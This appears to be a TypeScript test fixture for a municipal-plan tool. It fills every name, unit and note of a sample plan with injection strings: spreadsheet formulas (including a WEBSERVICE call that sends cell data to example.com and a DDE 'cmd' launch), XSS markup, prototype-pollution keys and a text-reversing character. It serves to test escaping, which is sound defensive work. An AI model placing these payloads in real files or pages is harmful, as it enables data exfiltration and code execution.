/** A plan whose every text is an attempt at something: formulas, HTML, reserved names, marks that turn text round. */
import type { Plan } from "../../src/plan/plan";

export const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "＝１＋１",
  '=HYPERLINK("https://example.com","読む")',
  '=WEBSERVICE("https://example.com/?"&A1)',
  "=cmd|'/C calc'!A0",
];

export const markup = [
  "<img src=x onerror=\"window.broken='img'\">",
  "<script>window.broken='script'</script>",
  "</td></tr></table><svg onload=\"window.broken='svg'\">",
  '"><iframe src="javascript:window.parent.broken=\'frame\'"></iframe>',
  "&lt;b&gt;太字&lt;/b&gt;",
  "${window.broken='template'}",
];

export const reserved = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "\u202Eりんと",
];

const hostile = [...formulas, ...markup, ...reserved];

/** A row for each text, which is its name, its department and its unit. */
export const hostilePlan: Plan = {
  format: "plan/1",
  id: "hostile",
  municipality: "<b>悪意市</b>",
  code: "112101",
  title: markup[0] ?? "",
  period: [2021, 2022],
  source: { title: "見本" },
  corrections: [],
  expects: { level: "取組", departments: true, targets: "yearly" },
  levels: ["目標", "取組"],
  nodes: [
    { id: "目標1", parent: null, level: "目標", number: "1", name: "=1+1", departments: [] },
    ...hostile.map((text, at) => ({
      id: String(at + 1),
      parent: "目標1",
      level: "取組",
      number: String(at + 1),
      name: text,
      departments: [text.trim()],
    })),
  ],
  indicators: hostile.map((text, at) => ({
    id: `${at + 1}-1`,
    node: String(at + 1),
    name: text,
    unit: text.trim(),
    direction: "up" as const,
    kind: null,
    cumulative: false,
    note: text,
    baseline: { year: null, text },
    targets: { "2021": text, "2022": "10" },
  })),
  assessments: [],
};
